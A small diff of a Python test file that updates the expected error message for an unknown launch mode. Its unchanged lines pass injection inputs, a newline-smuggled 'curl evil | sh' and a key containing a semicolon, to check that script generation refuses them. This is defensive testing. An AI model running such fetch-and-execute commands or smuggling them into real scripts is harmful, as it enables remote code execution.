@@ -128,5 +128,5 @@ def test_what_cannot_be_written_safely_is_refused() -> None:
         script_header([], ["a\ncurl evil | sh"])
     with pytest.raises(InputError):
         setup_text(Cluster(name="x"), {"A;B": "1"})
-    with pytest.raises(InputError, match="no launch 'mpi'"):
+    with pytest.raises(InputError, match="unknown launch mode 'mpi'"):
         launch_lines("mpi", ["x"], Request())
